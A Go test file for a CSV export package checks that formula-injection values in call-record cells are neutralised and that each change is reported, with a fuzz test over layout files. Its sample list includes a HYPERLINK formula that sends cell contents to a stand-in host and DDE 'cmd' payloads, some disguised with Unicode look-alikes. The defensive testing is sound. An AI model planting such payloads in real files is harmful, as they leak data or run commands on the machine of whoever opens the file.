package returns

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"kakeru/dialer"
)

// formulas are what people have hidden in cells to be run by whoever opens the file.
var formulas = []string{
	`=HYPERLINK("http://elsewhere.example/?"&A1,"見本")`, "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =cmd|'/C calc'!A0",
	"　=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "−1+1", `="a"`,
	// What the layout replaces makes a sign, or a blank before one.
	"–1+cmd|'/C calc'!A0", "‑1+1", "\u00a0=1+1", "\u00a0–1", "\v=1+1", "\x00=1+1", "\u3000\u00a0\t‑1",
}

// TestFormulaInjectionInRecords: no cell of any file for the ward is one that a spreadsheet would run, whatever was noted, and whoever
// noted it; each is named in the report. A layout can say that the ward's system wants it as it was written.
func TestFormulaInjectionInRecords(t *testing.T) {
	l := DefaultLayout()
	for _, f := range formulas {
		row := Row{WardNumber: f, Direction: dialer.Outbound, Result: dialer.Answered, Note: f, Operator: "operator1"}
		file, replaced, err := l.Records([]Row{row}, ward{}, func(dialer.UserID) string { return f })
		if err != nil {
			t.Fatal(err)
		}
		for i, cell := range readBack(t, file)[1] {
			if _, ok := dialer.FormulaSign(cell); ok {
				t.Errorf("%q is run from column %s as %q", f, l.Columns[i].Header, cell)
			}
		}
		told := slices.ContainsFunc(replaced, func(r Replaced) bool { return r.Column == "交渉経過" && strings.HasPrefix(r.To, "'") })
		if !told {
			t.Errorf("%q: nobody is told that the note was changed: %v", f, replaced)
		}
	}
	l.Formulas = keepFormulas
	file, replaced, err := l.Records([]Row{{WardNumber: "1", Direction: dialer.Outbound, Result: dialer.Answered, Note: "=1+1"}}, ward{}, named)
	if err != nil || len(replaced) > 0 || !slices.Contains(readBack(t, file)[1], "=1+1") {
		t.Errorf("kept: %v %v", replaced, err)
	}
}

// FuzzParseLayout: whatever stands in the file, it is a layout that can write, or an error; and whatever is noted, no cell of what it writes begins with a formula's
// sign, but where the layout says to keep them.
func FuzzParseLayout(f *testing.F) {
	f.Add(builtIn, "あ\x00=\"")
	f.Add([]byte(`{}`), "")
	for _, note := range append([]string{"😀1+1", "🍎=1", "🍏\u00a0😀"}, formulas...) {
		f.Add([]byte(`{"encoding":"cp932","columns":[{"header":"x","field":"ward_number"}],"replace":{"–":"-","\u00a0":" ","😀":"=","🍎":"","🍏":" "}}`), note)
	}
	f.Fuzz(func(t *testing.T, text []byte, note string) {
		l, err := ParseLayout(text)
		if err != nil {
			return
		}
		row := Row{WardNumber: note, Direction: dialer.Outbound, Result: dialer.Busy, Note: note, Operator: "operator1"}
		if _, _, err := l.Records([]Row{row}, ward{}, named); err != nil {
			t.Fatal(err)
		}
		file, _, err := l.Records([]Row{row}, legible{}, named)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range slices.Concat(rows...) {
			if sign, ok := dialer.FormulaSign(cell); ok && l.Formulas != keepFormulas {
				t.Errorf("%q begins with %q", cell, sign)
			}
		}
	})
}

// legible has the ward's characters, and writes them so that a test can read them.
type legible struct{ ward }

func (legible) Encode(s string) ([]byte, error) { return []byte(s), nil }
